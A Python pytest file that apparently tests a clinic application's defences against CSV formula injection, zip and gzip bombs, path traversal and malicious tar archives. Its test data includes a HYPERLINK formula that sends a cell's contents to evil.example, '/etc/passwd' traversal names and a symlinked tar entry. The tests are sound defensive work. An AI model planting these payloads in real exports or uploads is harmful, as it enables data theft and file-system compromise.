"""Files as weapons: formulas in what goes out, and paths, bombs and lies in what comes in."""

import csv
import gzip
import io
import json
import re
import tarfile
import zipfile
import zlib
from pathlib import Path

import pytest
from django.conf import settings
from hypothesis import example, given
from hypothesis import strategies as st
from tests.clinic.people import a_held_session, answers
from tests.clinic.rights_steps import code_for, inside

from accord.errors import BadTable
from accord_clinic.actions import agreements, corrections
from accord_clinic.exports.client_copy import as_csv
from accord_clinic.imports import ratings, spreadsheet
from accord_clinic.imports.column_map import BadMapping, read_map
from accord_clinic.models import Client
from accord_clinic.questionnaires.shelf import shelf
from accord_clinic.upkeep import backups

FORMULA = '=HYPERLINK("https://evil.example/?"&A1;"Invoice")'
SIGNS = tuple("=+-@＝＋－＠")
MAPPING = """
source = "An old program"
[columns]
person = "who"
session = "session"
date = "day"
[names]
with = "Sam"
[[questionnaires]]
instrument = {instrument}
form = "minimum"
[questionnaires.items]
d1 = "d1"
m1 = "m1"
"""
HEADER = "who,session,day,d1,m1"


@pytest.fixture
def mapped(tmp_path):
    """A mapping of a small file; `instrument` and what is added are the attacker's."""

    def mapped(instrument: str = "accord-check-in", more: str = ""):
        mapping = tmp_path / "map.toml"
        mapping.write_text(MAPPING.format(instrument=json.dumps(instrument)) + more)
        return read_map(mapping, shelf().instruments)

    return mapped


@pytest.fixture
def columns(mapped):
    return mapped()


class TestOut:
    def test_no_cell_of_any_table_of_a_copy_is_a_formula(self, people):
        """Whatever a person can write is one here, and every table of the zip is read as a spreadsheet would."""
        ana = people.ana
        Client.objects.filter(pk=ana.pk).update(name=FORMULA, address_as=FORMULA)
        for reader in ("therapist", "raise", "outside"):
            said = answers("client", t1=2, words=FORMULA, reader=reader)
            a_held_session(people.dyad, client=said, therapist=answers("therapist", words=FORMULA))
        agreements.propose(people.dyad, "goal", FORMULA, "therapist", by=people.ben)
        corrections.ask(people.dyad, FORMULA, by=ana)
        browser = inside(ana)
        packed = browser.post("/mine/rights/copy/", {"code": code_for(browser, "copy"), "as": "zip"})
        tables = _tables(packed.content)
        assert sum(FORMULA in cell for cells in tables.values() for cell in cells) >= 6
        for name, cells in tables.items():
            wrong = [cell for cell in cells if _runs(cell)]
            assert not wrong, f"{name}: {wrong[:3]}"

    @given(words=st.text("=+-@;,\t\n\r\" 'aA1＝", max_size=12), separator=st.sampled_from(",;\t"))
    @example(words="x;=1+1", separator=";")
    @example(words="x\n=1+1", separator=";")
    def test_nor_is_it_one_where_cells_are_split_elsewhere(self, words, separator):
        """A program that expects semicolons splits a file with commas in the middle of somebody's sentence."""
        out = as_csv([{"number": 1, "words": words}])
        cells = [cell for row in csv.reader(io.StringIO(out, newline=""), delimiter=separator) for cell in row]
        assert not [cell for cell in cells if _runs(cell)]

    def test_tables_leave_the_clinic_by_one_door(self):
        """One function makes cells safe: what writes tables for spreadsheet programs calls it: three files."""
        source = Path(settings.PACKAGE)
        writers = re.compile(r"csv\.(?:writer|DictWriter)|write_csv|write_excel|openpyxl|xlsxwriter")
        found = {str(path.relative_to(source)) for path in source.rglob("*.py") if writers.search(path.read_text())}
        assert found == {"exports/care_record.py", "exports/client_copy.py", "exports/study_file.py"}
        assert all("csv_safe" in (source / name).read_text() for name in found)


class TestIn:
    """What an admin imports may have been made by somebody else."""

    @pytest.mark.parametrize("pack", ["zip", "gzip", "xlsx"])
    def test_a_bomb_is_not_unpacked(self, pack, tmp_path, columns):
        packed = io.BytesIO()
        if pack == "gzip":
            packed.write(gzip.compress(b"\0" * 10_000_000))
        else:
            with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
                archive.writestr("xl/worksheets/sheet1.xml" if pack == "xlsx" else "bomb.csv", b"\0" * 10_000_000)
        file = tmp_path / f"ratings.{pack}"
        file.write_bytes(packed.getvalue())
        with pytest.raises(BadTable):
            spreadsheet.read_sheet(file, columns)

    def test_a_file_without_end_is_read_no_further_than_its_limit(self, columns, monkeypatch):
        monkeypatch.setattr(spreadsheet, "MOST_BYTES", 1_000_000)
        with pytest.raises(BadTable, match="more than 1 MB"):
            spreadsheet.read_sheet(Path("/dev/zero"), columns)

    @pytest.mark.parametrize("cell", ["9" * 5000, "²", "1e9", "-1", "٣"])
    def test_a_number_that_is_none_is_a_fault_and_not_the_end(self, cell, tmp_path, columns):
        sheet = spreadsheet.read_sheet(_ratings(tmp_path, f"p1,{cell},2024-01-08,3,3"), columns)
        assert len(sheet.faults) == 1

    @pytest.mark.parametrize("header", ["x" * 200_000, '"who'])
    def test_a_header_that_is_none_gets_a_sentence(self, header, tmp_path, columns):
        file = tmp_path / "ratings.csv"
        file.write_text(f"{header},session,day,d1,m1\n")
        with pytest.raises(BadTable):
            spreadsheet.read_sheet(file, columns)

    @pytest.mark.parametrize("name", ["../../../etc/passwd", "/etc/passwd", "..\\..\\x", "file:///etc/passwd"])
    def test_a_name_that_is_a_path_is_only_a_name(self, name, tmp_path, columns, people):
        before = sorted(tmp_path.rglob("*"))
        sheet = spreadsheet.read_sheet(_ratings(tmp_path, f"{name},1,2024-01-08,3,3"), columns)
        ratings.take(ratings.fit(sheet, columns)[0], columns, by=None)
        assert Client.objects.filter(name__endswith=name).exists()
        assert {p.name for p in tmp_path.rglob("*")} - {p.name for p in before} <= {"ratings.csv"}

    @pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "accord-check-in/../x"])
    def test_a_questionnaire_is_chosen_from_the_shelf_and_never_by_a_path(self, name, mapped):
        with pytest.raises(BadMapping):
            mapped(name)

    @pytest.mark.parametrize("encoding", ["zlib_codec", "bz2_codec", "hex", "../x"])
    def test_an_encoding_that_unpacks_is_none(self, encoding, mapped, tmp_path):
        file = tmp_path / "ratings.csv"
        file.write_bytes(zlib.compress(b"0" * 10_000_000))
        with pytest.raises(BadTable):
            spreadsheet.read_sheet(file, mapped(more=f'[file]\nencoding = "{encoding}"\n'))

    @pytest.mark.parametrize("evil", ["../escaped", "/tmp/accord-escaped"])
    def test_a_backup_unpacks_nowhere_but_in_its_place(self, evil, tmp_path, settings):
        settings.INSTRUMENT_TEXTS = tmp_path / "data" / "instrument-texts"
        settings.INSTRUMENT_TEXTS.parent.mkdir()
        packed = tmp_path / "texts.tar.gz"
        with tarfile.open(packed, "w:gz") as archive:
            member = tarfile.TarInfo(evil)
            member.size = 4
            archive.addfile(member, io.BytesIO(b"evil"))
            link = tarfile.TarInfo("instrument-texts/link")
            link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
            archive.addfile(link)
        with pytest.raises(tarfile.FilterError):
            backups._unpack_texts(packed)
        assert not (tmp_path / "escaped").exists()
        assert not Path("/tmp/accord-escaped").exists()


def _ratings(folder, line) -> Path:
    file = folder / "ratings.csv"
    file.write_text(f"{HEADER}\n{line}\n", encoding="utf-8")
    return file


def _tables(packed: bytes) -> dict[str, list[str]]:
    """Every cell of every table in a zip."""
    with zipfile.ZipFile(io.BytesIO(packed)) as archive:
        names = [name for name in archive.namelist() if name.endswith(".csv")]
        lines = {name: csv.reader(io.StringIO(archive.read(name).decode(), newline="")) for name in names}
        return {name: [cell for row in rows for cell in row] for name, rows in lines.items()}


def _runs(cell: str) -> bool:
    """Whether a spreadsheet program would compute this cell. A number with a sign is only a number."""
    return cell.lstrip(" \t\r\n").startswith(SIGNS) and not re.fullmatch(r"-?[0-9.]+", cell)
